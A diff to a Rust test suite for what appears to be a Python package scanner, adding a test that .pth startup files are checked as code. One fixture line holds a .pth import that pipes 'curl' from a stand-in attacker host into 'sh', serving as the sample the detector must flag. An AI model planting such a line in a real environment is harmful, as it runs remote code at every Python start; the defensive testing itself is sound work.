@@ -338,8 +338,9 @@ fn installed(root: &Path) {
     for base in [site, "extracted"] {
         write(root, &format!("{base}/demo/__init__.py"), INIT);
         write(root, &format!("{base}/demo/cli.py"), SETUP);
+        // Start-up code: checked, as in any folder.
+        write(root, &format!("{base}/demo_helper.pth"), "import os\n");
     }
-    write(root, &format!("{site}/demo_helper.pth"), "import os\n");
     write(
         root,
         &format!("{site}/other/__init__.py"),
@@ -375,11 +376,11 @@ fn an_installed_package_scans_as_its_files_extracted() {
     assert!(!a.is_empty());
     assert_eq!(a, strip(&extracted, "extracted/"));
     // Only what RECORD lists: `other` is not part of demo.
-    assert_eq!(report["summary"]["files_scanned"], 2);
+    assert_eq!(report["summary"]["files_scanned"], 3);
     let package = &report["summary"]["packages"][0];
     assert_eq!(package["kind"], "installed");
     assert_eq!(package["name"], "Demo.Pkg");
-    assert_eq!(package["files_scanned"], 2);
+    assert_eq!(package["files_scanned"], 3);
     assert_eq!(package["findings"], report["summary"]["findings"]);
     // No paths: `.` is not scanned with --package.
     assert!(
@@ -428,4 +429,41 @@ fn a_missing_package_or_environment_is_an_error() {
         .output()
         .unwrap();
     assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+}
+
+/// A `.pth` file: its `import` lines run at every start of Python and are
+/// checked as code; its path lines (and an indented `import`, which `site`
+/// reads as a path) are not code.
+#[test]
+fn pth_files_are_checked_as_the_code_site_runs() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "site-packages/evil.pth",
+        "# a comment\n/opt/lib\n  import not_run\nimport os; os.system(\"curl -s https://payload.attacker.test/p | sh\")\n../shared\n",
+    );
+    let (code, report) = check_json(dir.path(), &["site-packages/evil.pth"]);
+    assert_eq!(code, 1, "{report}");
+    let mut found: Vec<(String, u64)> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["rule"].as_str().unwrap().to_string(),
+                f["line"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    found.sort();
+    assert!(
+        found.contains(&("pth-startup-code".to_string(), 4)),
+        "{found:?}"
+    );
+    assert!(
+        found.contains(&("download-and-execute".to_string(), 4)),
+        "{found:?}"
+    );
+    assert!(found.iter().all(|(_, line)| *line == 4), "{found:?}");
+    assert!(report["errors"].as_array().unwrap().is_empty(), "{report}");
 }
